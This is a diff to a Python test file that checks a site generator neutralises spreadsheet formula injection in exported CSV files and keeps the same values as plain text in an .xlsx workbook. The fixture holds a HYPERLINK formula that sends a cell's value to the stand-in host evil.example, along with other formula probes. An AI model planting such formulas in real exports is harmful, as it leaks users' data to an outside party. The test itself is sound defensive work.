@@ -17,6 +17,7 @@ from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
+from openpyxl import load_workbook
 
 from conftest import FIXTURES, ROOT, make_project, run_cli
 
@@ -119,7 +120,7 @@ def test_text_cannot_break_out_of_the_json_ld_script(tmp_path):
             assert evil in json.loads(ld[0]["text"])["itemListElement"][-1]["name"]
 
 
-def test_csv_cells_that_would_be_formulas_are_neutralised(tmp_path):
+def test_csv_cells_that_would_be_formulas_are_neutralised_and_stay_text_in_the_workbook(tmp_path):
     project = make_project(tmp_path, FIXTURES / "minimal" / "data")
     path = project / DECISION
     formula = '=HYPERLINK("https://evil.example/?leak="&B2,"Xem")'
@@ -135,6 +136,10 @@ def test_csv_cells_that_would_be_formulas_are_neutralised(tmp_path):
         cells = [cell for row in rows for cell in row]
         assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], rel
         assert "'" + formula in cells and "'+1+1" in cells and "'@SUM(A1)" in cells
+    # the workbook needs no guard: the same values are text cells, never formulas
+    book = load_workbook(project / "site/du-lieu/2024/khen-thuong-2024.xlsx")
+    kinds = {cell.value: cell.data_type for row in book.worksheets[0].iter_rows() for cell in row}
+    assert (kinds[formula], kinds["+1+1"], kinds["@SUM(A1)"]) == ("s", "s", "s")
 
 
 @pytest.mark.parametrize("tree_name", ["content", "site_templates"])
